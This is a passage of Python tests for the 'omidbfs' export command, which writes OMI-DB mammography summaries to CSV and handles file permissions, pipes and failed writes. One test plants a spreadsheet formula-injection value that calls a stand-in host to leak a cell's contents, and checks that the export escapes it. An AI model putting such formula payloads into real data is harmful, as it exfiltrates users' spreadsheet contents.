    assert complaint(run("demo", "db")).startswith("db is not empty")


# export ----------------------------------------------------------------------------------------------------


@pytest.fixture
def omidb_summarise(tmp_path: Path) -> Iterator[Callable[..., list[str]]]:
    """A function that runs ``omidb summarise`` and returns its lines."""
    from omidb.commands import summarise

    def run(data: Path, *options: str) -> list[str]:
        output = tmp_path / "omidb.csv"
        arguments = [str(data), str(output), "--log-file", str(tmp_path / "log"), *options]
        assert CliRunner().invoke(summarise.cli, arguments, catch_exceptions=False).exit_code == 0
        return output.read_bytes().decode().splitlines(keepends=True)

    yield run
    logger.remove()  # the command turns the log of the whole process on
    logger.add(sys.stderr)
    logger.disable("omidb")


@pytest.mark.parametrize(
    "options",
    [
        "",
        "--num-months-ci-prior 36 --num-months-cancer-prior 39",
        "--num-months-normal-follow-up 12 --num-months-benign-follow-up 24",
        "--link-all",
        "--clients-file clients",
        "--link-all --clients-file clients --num-months-ci-prior 48 --num-months-normal-follow-up 36",
    ],
)
def test_the_summary_of_all_is_that_of_omidb(
    run: Run, omidb_summarise: Callable[..., list[str]], demo_database: Path, tmp_path: Path, options: str
) -> None:
    clients = sorted(path.name for path in (demo_database / "data").iterdir())
    (tmp_path / "clients").write_text("\n".join(clients[::2]))
    theirs = omidb_summarise(demo_database / "data", *options.split())
    result = run("export", demo_database, "all", "--format", "omidb-summary", "-o", "ours.csv", *options.split())
    ours = (tmp_path / "ours.csv").read_bytes().decode().splitlines(keepends=True)
    assert ours[0] == theirs[0]
    assert Counter(ours[1:]) == Counter(theirs[1:])
    assert len(ours) > 50
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr.startswith(f"ours.csv: {len(ours) - 1} rows\n")


def exported(run: Run, *arguments: object) -> list[dict[str, str]]:
    text = said(run("export", "--verify-first", *arguments, "--format", "omidb-summary"))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_summary_of_a_cohort_has_its_images_only(run: Run, demo_database: Path) -> None:
    rows = exported(run, demo_database, "by-view/MLO/by-laterality/L")
    assert {(row["ViewPosition"], row["ImageLaterality"]) for row in rows if row["SOPInstanceUID"]} == {
        ("MLO", "L")
    }
    images = {row["SOPInstanceUID"] for row in rows} - {""}
    listed = said(run("ls", demo_database, "by-view/MLO/by-laterality/L/by-file-type/json")).splitlines()
    assert images <= {name.removesuffix(".json") for name in listed}
    assert images


def test_a_text_that_a_spreadsheet_would_calculate_is_a_text_in_the_summary(run: Run, tmp_path: Path) -> None:
    client = Tree(tmp_path / "db").client("demd1", site="@x").episode("1")
    client.study("1.1", "1").image("1", Manufacturer='=HYPERLINK("http://x/?"&A2)', ViewPosition="MLO")
    (row,) = [row for row in exported(run, "db") if row["SOPInstanceUID"] == "1"]
    assert (row["Site"], row["Manufacturer"]) == ("'@x", '\'=HYPERLINK("http://x/?"&A2)')
    assert row["ViewPosition"] == "MLO"


def test_a_summary_of_nothing_is_a_header(run: Run, demo_database: Path) -> None:
    result = run("export", demo_database, "by-view/CC/by-view/MLO", "--format", "omidb-summary")
    assert result.stdout_bytes == (",".join(HEADER) + "\r\n").encode()


def test_the_output_is_for_its_owner_only_and_appears_whole(run: Run, database: Path, tmp_path: Path) -> None:
    target = tmp_path / "kept" / "table.csv"
    target.parent.mkdir()
    target.write_text("older")
    target.chmod(0o644)
    (tmp_path / "link.csv").symlink_to(target)
    assert run("export", database, "--format", "omidb-summary", "-o", "link.csv").exit_code == 0
    assert target.read_text().startswith("ClientID,")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert (tmp_path / "link.csv").is_symlink()
    assert list(target.parent.iterdir()) == [target]


def test_a_device_or_a_pipe_is_written_to_and_not_replaced(database: Path, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    os.mkfifo(tmp_path / "out" / "pipe")
    done = shell(
        'cat "$2" & omidbfs export --format omidb-summary "$1" -o "$2"; wait', database, tmp_path / "out/pipe"
    )
    assert done.returncode == 0
    assert done.stdout.startswith("ClientID,")
    assert stat.S_ISFIFO((tmp_path / "out" / "pipe").stat().st_mode)
    done = shell('omidbfs export --format omidb-summary "$1" -o /dev/stdout | head -n 1', database)
    assert done.stdout.startswith("ClientID,")


def test_a_failed_export_leaves_what_was_there(database: Path, tmp_path: Path) -> None:
    target = tmp_path / "table.csv"
    target.write_text("older")
    done = shell('ulimit -f 0; omidbfs export --format omidb-summary "$1" -o "$2"', database, target)
    assert done.returncode != 0
    assert target.read_text() == "older"
    assert list(tmp_path.iterdir()) == [target]


def test_text_that_no_file_can_hold_is_exported_all_the_same(run: Run, tmp_path: Path) -> None:
    client = Tree(tmp_path / "db").client("demd1").episode("1")
    client.study("1.1", "1").image("1")
    client.documents["imagedb"]["Site"] = "\ud800"
    client.write()
    arguments = ("export", "db", "--format", "omidb-summary")
    assert run(*arguments, "-o", "table.csv").exit_code == 0
    assert "demd1,\\ud800,1," in (tmp_path / "table.csv").read_text()
    assert "demd1,\\ud800,1," in shell('omidbfs export --format omidb-summary "$1"', tmp_path / "db").stdout


def test_a_drive_that_its_owner_may_not_read_can_be_named() -> None:
    paths = [
        (name, parameter.name)
        for name, command in main.commands.items()
        for parameter in command.params
        if isinstance(parameter.type, click.Path) and parameter.type.readable
    ]
    assert paths == []
